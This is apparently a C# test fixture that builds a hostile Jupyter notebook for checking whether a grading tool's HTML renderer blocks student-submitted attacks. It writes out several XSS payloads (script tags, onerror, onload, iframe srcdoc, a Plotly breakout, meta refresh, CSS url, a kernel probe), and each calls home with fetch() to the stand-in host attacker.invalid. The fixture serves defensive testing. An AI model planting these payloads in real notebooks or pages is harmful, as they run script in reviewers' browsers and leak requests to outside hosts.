using System.Text.Json.Nodes;
using DaseCV.Runner.Ipynb;

namespace DaseCV.Runner.Tests.Html;

/// <summary>
/// An executed notebook as a student could hand it in to attack the grader: one cell per attack class of issue 17.
/// Every script marks <c>data-ran</c> on &lt;html&gt; with its name and fetches <see cref="Host"/>, so a test sees both
/// a script that ran and a request that left.
/// </summary>
internal static class HostileNotebook
{
    /// <summary>Where the attacks call home; the browser's only route out is the test's loopback proxy.</summary>
    public const string Host = "http://attacker.invalid";

    /// <summary>JavaScript that records that attack <paramref name="name"/> ran and calls home.</summary>
    public static string Js(string name) =>
        $"document.documentElement.setAttribute('data-ran',(document.documentElement.getAttribute('data-ran')||'')+' {name}');" +
        $"fetch('{Host}/{name}')";

    /// <summary>The attack classes, each a name and the cells that carry it (markdown and output forms).</summary>
    public static IReadOnlyList<(string Name, string[] Cells)> Attacks { get; } =
    [
        ("script", [Markdown($"<script>{Js("md-script")}</script>"), Html($"<script>{Js("html-script")}</script>")]),
        ("img-onerror", [Markdown($"<img src=\"x\" onerror=\"{Js("md-onerror")}\">"), Html($"<img src=x onerror=\"{Js("html-onerror")}\">")]),
        ("svg-onload", [Html($"<svg onload=\"{Js("svg-onload")}\"><rect width=\"5\" height=\"5\"/></svg>")]),
        ("iframe-srcdoc", [Html($"<iframe srcdoc=\"<script>{Js("iframe-srcdoc").Replace("document.", "parent.document.")}</script>\"></iframe>")]),
        ("details-ontoggle", [Html($"<details open ontoggle=\"{Js("details-ontoggle")}\"><summary>s</summary>x</details>")]),
        ("svg-script", [Output("image/svg+xml",
            $"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\" onload=\"{Js("svg-image-onload")}\"><script>{Js("svg-image-script")}</script>" +
            $"<image href=\"{Host}/svg-image.png\" width=\"5\" height=\"5\"/><rect width=\"10\" height=\"10\" fill=\"red\"/></svg>")]),
        ("plotly-breakout", [Plotly($"</script><script>{Js("plotly-breakout")}</script>"),
            Html($"<div class=\"dasecv-plotly\"></div><script>Plotly.newPlot('x', [{{name: '</script><script>{Js("plotly-html")}</script>'}}]);</script>")]),
        ("meta-refresh", [Markdown($"<meta http-equiv=\"refresh\" content=\"0;url={Host}/refresh\">"), Html($"<meta http-equiv=\"refresh\" content=\"0;url={Host}/refresh2\">")]),
        ("base-href", [Html($"<base href=\"{Host}/base/\"><a href=\"rel\">relative link</a>")]),
        ("remote-image", [Markdown($"![remote]({Host}/remote.png)"), Html($"<img src=\"{Host}/img.png\"><img srcset=\"{Host}/srcset.png 1x\">")]),
        ("css-url", [Html($"<div style=\"background-image:url({Host}/css.png);color:red\">css</div><p style=\"background:url('{Host}/css2.png')\">bg</p>")]),
        ("style-block", [Markdown("<style>.nb-header{display:none}</style>"), Html("<style>.nb-header{display:none !important}</style><link rel=\"stylesheet\" href=\"" + Host + "/x.css\">")]),
        ("kernel-probe", [KernelProbe()]),
    ];

    /// <summary>The whole notebook: every attack class in turn.</summary>
    public static IpynbNotebook Notebook() => IpynbNotebook.Parse(
        "{\"cells\": [" + string.Join(",", Attacks.SelectMany(a => a.Cells)) + "], " +
        "\"metadata\": {\"kernelspec\": {\"name\": \".net-csharp\", \"display_name\": \".NET (C#)\", \"language\": \"C#\"}}, " +
        "\"nbformat\": 4, \"nbformat_minor\": 5}", "hostile.ipynb");

    private static int _cells;

    private static string Markdown(string source) =>
        new JsonObject { ["cell_type"] = "markdown", ["id"] = $"m{++_cells}", ["metadata"] = new JsonObject(), ["source"] = source }.ToJsonString();

    private static string Html(string html) => Output("text/html", html);

    private static string Output(string mime, string value) => Code(new JsonObject { [mime] = value, ["text/plain"] = "x" });

    private static string Plotly(string name) => Code(new JsonObject
    {
        ["application/vnd.plotly.v1+json"] = new JsonObject
        {
            ["data"] = new JsonArray(new JsonObject { ["type"] = "scatter", ["x"] = new JsonArray(1, 2), ["y"] = new JsonArray(2, 1), ["name"] = name }),
            ["layout"] = new JsonObject { ["title"] = new JsonObject { ["text"] = name }, ["height"] = 300 },
        },
    });

    private static string Code(JsonObject data) => new JsonObject
    {
        ["cell_type"] = "code", ["id"] = $"c{++_cells}", ["execution_count"] = 1, ["metadata"] = new JsonObject(), ["source"] = "// output",
        ["outputs"] = new JsonArray(new JsonObject { ["output_type"] = "display_data", ["metadata"] = new JsonObject(), ["data"] = data }),
    }.ToJsonString();

    // What the .NET kernel sends under Jupyter before the first cell's output: a script that probes the kernel's
    // HTTP addresses (the student's machine) and loads its API from there.
    private static string KernelProbe() => Html(
        "<div><div></div><div></div><div><strong>Installed Packages</strong></div></div>" +
        "<script type=\"text/javascript\">\nlet probingAddresses = [\"http://192.168.1.5:2048/\", \"" + Host + "/probe/\"];\n" +
        "function loadDotnetInteractiveApi() { probingAddresses.forEach(function (a) { fetch(a + 'discovery'); }); " + Js("kernel-probe") + "; }\n" +
        "loadDotnetInteractiveApi();\n</script>");
}
